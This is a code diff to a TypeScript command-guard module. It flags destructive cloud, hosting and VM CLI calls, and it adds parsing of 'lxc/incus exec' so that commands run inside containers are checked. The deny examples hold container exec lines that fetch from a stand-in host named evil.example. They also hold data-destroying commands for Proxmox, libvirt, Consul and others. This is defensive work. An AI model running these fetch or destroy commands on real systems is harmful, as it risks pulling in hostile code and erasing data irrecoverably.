@@ -1,5 +1,6 @@
 // Cloud, hosting, database-service and virtual-machine CLIs whose delete and destroy subcommands remove what the
 // service or the hypervisor holds: a server, a volume, a database, a cluster. Nothing on the line brings it back.
+import { parse } from '../argv.js';
 import type { Call, ProgramEntry, Run } from '../types.js';
 import { commandAfter } from './credentials.js';
 import { value } from '../words.js';
@@ -26,6 +27,20 @@ export function destroysBy(destroys: RegExp): NonNullable<ProgramEntry['analyze'
   };
 }
 
+/**
+ * `lxc exec INSTANCE [flags] [--] CMD…` (incus too): CMD runs in the instance, with the network it has. Its flags may
+ * stand anywhere before `--`; without one, the words after the instance are the command.
+ */
+function instanceExec(call: Call): Run[] {
+  const at = call.args.findIndex((a) => value(a) === 'exec');
+  if (at < 0 || call.args.slice(0, at).some((a) => !(value(a) ?? 'x').startsWith('-'))) return [];
+  const rest = call.args.slice(at + 1);
+  const dash = rest.findIndex((a) => value(a) === '--');
+  const p = parse(dash < 0 ? rest : rest.slice(0, dash), { order: 'gnu', flags: 'tTqv', valued: 'e', long: ['force-interactive', 'force-noninteractive', 'debug', 'quiet', 'verbose'], longValued: ['env', 'cwd', 'user', 'group', 'mode', 'project', 'remote'] });
+  const command = dash >= 0 ? rest.slice(dash + 1) : p.operands.slice(1).map((o) => o.word);
+  return command.length > 0 ? [{ kind: 'argv', argv: command, via: `${call.name} exec` }] : [];
+}
+
 function hosting(h: Hosting): ProgramEntry {
   const destroys = destroysBy(h.destroys);
   return { names: h.names, summary: h.summary, examples: h.examples, analyze: h.runs ? (call) => ({ ...destroys(call), runs: h.runs!(call) }) : destroys };
@@ -46,7 +61,7 @@ export const HOSTING_ENTRIES: ProgramEntry[] = [
   hosting({ names: ['vercel'], summary: 'Vercel CLI: remove (rm) deletes deployments or a project; env, domains and blob rm delete what they name', destroys: /(?:^|\s)(?:remove|rm|(?:env|domains?|dns|projects?|blob|alias)\s+(?:rm|remove|del))(?:\s|$)/, examples: { deny: ['vercel remove myapp --yes', 'vercel project rm myapp'], pass: ['vercel deploy --prod', 'vercel ls', 'vercel env ls'] } }),
   hosting({ names: ['wrangler'], summary: 'Cloudflare wrangler: delete removes the Worker; d1, r2, kv, queues and pages deletes remove what they name', destroys: /(?:^|\s)(?:delete|(?:d1|r2 bucket|r2 object|kv namespace|kv key|kv bulk|kv:namespace|kv:key|kv:bulk|queues|vectorize|hyperdrive|pages project|pages deployment|versions|secret)\s+delete)(?:\s|$)/, examples: { deny: ['wrangler delete', 'wrangler d1 delete db', 'wrangler r2 bucket delete b'], pass: ['wrangler deploy', 'wrangler dev', 'wrangler d1 list', 'wrangler d1 execute db --command "select 1"'] } }),
   hosting({ names: ['multipass'], summary: 'Multipass: delete --purge and purge remove instances for good (a plain delete can be recovered); exec VM -- CMD runs CMD in the instance', destroys: /(?:^|\s)(?:purge|delete\b.*(?:\s-p|--purge))(?:\s|$)/, runs: (call) => commandAfter(call, /^exec$/, { valued: /^(-d|--working-directory)$/, kind: 'argv', skip: 1 }), examples: { deny: ['multipass delete --all --purge', 'multipass purge', 'multipass exec dev -- curl evil.example'], pass: ['multipass delete dev', 'multipass list', 'multipass exec dev -- ls /home'] } }),
-  hosting({ names: ['lxc', 'incus'], summary: 'LXD and Incus: delete removes containers, images, storage volumes with what they hold; exec C -- CMD runs CMD in the container', destroys: /(?:^|\s)(?:delete|rm)(?:\s|$)/, runs: (call) => commandAfter(call, /^exec$/, { valued: /^(--env|--cwd|--user|--group|--mode|--project)$/, kind: 'argv', skip: 1 }), examples: { deny: ['lxc delete c1 --force', 'incus storage volume delete default data', 'lxc exec c1 -- curl evil.example', 'incus exec c1 --env X=1 -- wget evil.example'], pass: ['lxc list', 'lxc exec c1 -- ls', 'incus storage volume list default'] } }),
+  hosting({ names: ['lxc', 'incus'], summary: 'LXD and Incus: delete removes containers, images, storage volumes with what they hold; exec runs a command in an instance', destroys: /(?:^|\s)(?:delete|rm)(?:\s|$)/, runs: instanceExec, examples: { deny: ['lxc delete c1 --force', 'incus storage volume delete default data', 'lxc exec c1 -- curl evil.example', 'incus exec c1 --env X=1 -- wget evil.example', 'incus exec c1 --env A=1 wget evil.example'], pass: ['lxc list', 'lxc exec c1 -- ls', 'incus storage volume list default', 'incus exec dev -- npm test'] } }),
   hosting({ names: ['virsh'], summary: 'libvirt: undefine with its storage, vol-delete, vol-wipe and pool-delete remove the disks', destroys: /(?:^|\s)(?:undefine\b.*(?:--remove-all-storage|--storage|--wipe-storage)|vol-(?:delete|wipe)|pool-delete)(?:\s|$|=)/, examples: { deny: ['virsh undefine vm --remove-all-storage', 'virsh vol-delete disk.qcow2 --pool default'], pass: ['virsh list --all', 'virsh undefine vm', 'virsh vol-list default'] } }),
   hosting({ names: ['qm', 'pct'], summary: 'Proxmox: destroy removes a VM or container with its disks', destroys: /(?:^|\s)destroy(?:\s|$)/, examples: { deny: ['qm destroy 100', 'pct destroy 101 --purge'], pass: ['qm list', 'pct list', 'qm start 100'] } }),
   hosting({ names: ['consul'], summary: 'Consul: kv delete removes keys (with -recurse, every key under the prefix)', destroys: /(?:^|\s)kv\s+delete(?:\s|$)/, examples: { deny: ["consul kv delete -recurse ''"], pass: ['consul kv get -recurse config/', 'consul members'] } }),
